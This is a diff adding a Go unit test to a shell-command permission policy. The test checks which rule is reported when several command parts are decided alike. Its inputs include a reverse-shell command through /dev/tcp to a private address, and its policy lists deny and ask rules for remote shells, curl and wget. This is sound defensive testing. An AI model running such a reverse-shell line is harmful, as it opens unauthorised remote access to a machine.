@@ -106,6 +106,34 @@ default: allow
 	})
 }
 
+// TestEqualEffectsReportTheEarlierRule: when parts are decided alike, the
+// report names the rule that comes first in the policy (first match puts the
+// specific rules first), whatever the order of the parts.
+func TestEqualEffectsReportTheEarlierRule(t *testing.T) {
+	p := mustCompile(t, Options{}, `
+rules:
+  - name: block remote shells
+    action: shell.remote
+    effect: deny
+  - name: ask curl
+    program: curl
+    effect: ask
+  - name: ask wget
+    program: wget
+    effect: ask
+  - name: not on the allow list
+    action: shell.execute
+    effect: deny
+`)
+	remote := action.Action{Kind: action.ShellRemote, Host: "10.0.0.1", Port: 4242}
+	runDecideCases(t, p, []decideCase{
+		{"reverse shell after a catch-all deny", request(shellPart("exec 3<>/dev/tcp/10.0.0.1/4242"), shellPart("sh", remote)), action.Deny, "block remote shells", 1},
+		{"reverse shell first", request(shellPart("sh", remote), shellPart("exec x")), action.Deny, "block remote shells", 0},
+		{"earlier ask rule on a later part", request(shellPart("wget a"), shellPart("curl b")), action.Ask, "ask curl", 1},
+		{"same rule: the first part", request(shellPart("curl a"), shellPart("curl b")), action.Ask, "ask curl", 0},
+	})
+}
+
 func TestSelfProtection(t *testing.T) {
 	opts := Options{Home: "/home/u", Workspace: "/w",
 		ProtectWrite: []string{"/home/u/.config/safeclaw/**", "/home/u/.claude/settings.json"},
